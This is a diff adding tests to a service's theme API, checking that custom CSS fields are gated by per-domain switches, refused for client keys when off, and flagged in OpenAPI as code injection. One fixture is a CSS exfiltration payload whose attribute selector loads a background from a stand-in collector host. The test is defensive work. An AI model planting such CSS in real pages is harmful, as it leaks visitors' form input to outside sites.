@@ -1,7 +1,7 @@
 import { crc32, deflateSync } from 'node:zlib';
 import { describe, expect, it } from 'vitest';
 import { THEME_COLORS, THEME_FLAGS, type Theme, themeDefaults } from '../../../src/features/themes/theme.contract.ts';
-import { API, createDomain, type DomainPath, domainState, themePayload, unknownId } from '../../support/fixtures.ts';
+import { API, createApiKey, createDomain, type DomainPath, domainState, themePayload, unknownId } from '../../support/fixtures.ts';
 import { useServiceWithDomain } from '../../support/service-with-domain.ts';
 
 const { service, domain } = useServiceWithDomain();
@@ -787,5 +787,61 @@ describe('themes over GraphQL', () => {
       expect(list.errors?.[0]?.extensions?.code).toBe('NOT_FOUND');
     }
     expect((await service.rest('GET', themesUrl(domain))).body).toEqual([]);
+  });
+});
+
+// ── CSS that reaches outside ───────────────────────────────────────────────
+
+describe("customCss and customCssForIframeBlocker: CSS on every visitor's page, guarded by canUseIndCSS and canUseIframeCSS", () => {
+  // A selector on an attribute's value with a background from elsewhere tells that site what the page holds.
+  const LEAKY_CSS = 'input[value^="a"] { background: url(https://collector.example/a) }';
+  const setFeatures = async (features: Record<string, boolean>) =>
+    expect((await service.rest('PUT', `${API}/${domain.clientId}`, { features })).status).toBe(200);
+  const clientKey = async () => service.as((await createApiKey(service, domain.clientId, 'no css')).key);
+
+  it('lets every client key write them by default', async () => {
+    const { features } = (await service.rest('GET', `${API}/${domain.clientId}`)).body;
+    expect(features).toMatchObject({ canUseIndCSS: true, canUseIframeCSS: true });
+    const asClient = await clientKey();
+    const answer = await asClient.rest('POST', themesUrl(domain), themePayload({ customCss: LEAKY_CSS, customCssForIframeBlocker: 'a{}' }));
+    expect(answer.status, answer.text).toBe(201);
+  });
+
+  it("refuses a client key's write that sets or changes one whose switch is off (403 / FORBIDDEN), storing nothing", async () => {
+    const created = await createTheme(domain, { customCss: 'p{}', customCssForIframeBlocker: 'div{}' });
+    await setFeatures({ canUseIndCSS: false, canUseIframeCSS: false });
+    const asClient = await clientKey();
+    const before = await domainState(service, domain);
+
+    for (const change of [{ customCss: LEAKY_CSS }, { customCssForIframeBlocker: LEAKY_CSS }]) {
+      const create = await asClient.rest('POST', themesUrl(domain), themePayload(change));
+      expect(create.status, JSON.stringify(change)).toBe(403);
+      const update = await asClient.rest('PUT', themeUrl(domain, created.id), change);
+      expect(update.status, JSON.stringify(change)).toBe(403);
+      const gql = await asClient.graphql(UPDATE, { ...scope(), themeId: created.id, input: change });
+      expect(gql.errors?.[0]?.extensions?.code, JSON.stringify(change)).toBe('FORBIDDEN');
+    }
+    const gqlCreate = await asClient.graphql(CREATE, { ...scope(), input: themePayload({ customCss: LEAKY_CSS }) });
+    expect(gqlCreate.errors?.[0]?.extensions?.code).toBe('FORBIDDEN');
+    expect(await domainState(service, domain)).toEqual(before);
+  });
+
+  it('says in OpenAPI that they are code injection that can reach outside URLs', async () => {
+    const { schemas } = (await service.as(null).rest('GET', '/openapi.json')).body.components;
+    for (const name of ['Theme', 'ThemeCreate', 'ThemeUpdate']) {
+      expect(schemas[name].properties.customCss.description, name).toMatch(/^Code injection by design.*outside URLs.*canUseIndCSS/s);
+      expect(schemas[name].properties.customCssForIframeBlocker.description, name).toMatch(/^Code injection by design.*canUseIframeCSS/s);
+    }
+  });
+
+  it('guards each field by its own switch, takes the CSS back unchanged, and lets the administrator change it', async () => {
+    const created = await createTheme(domain, { customCss: 'p{}' });
+    await setFeatures({ canUseIndCSS: false });
+    const asClient = await clientKey();
+    const { id: _id, ...read } = await readTheme(domain, created.id);
+    const roundTrip = await asClient.rest('PUT', themeUrl(domain, created.id), { ...read, name: 'Renamed', customCssForIframeBlocker: 'iframe{}' });
+    expect(roundTrip.status, roundTrip.text).toBe(200);
+    expect(roundTrip.body).toMatchObject({ name: 'Renamed', customCss: 'p{}', customCssForIframeBlocker: 'iframe{}' });
+    expect((await service.rest('PUT', themeUrl(domain, created.id), { customCss: LEAKY_CSS })).status).toBe(200);
   });
 });
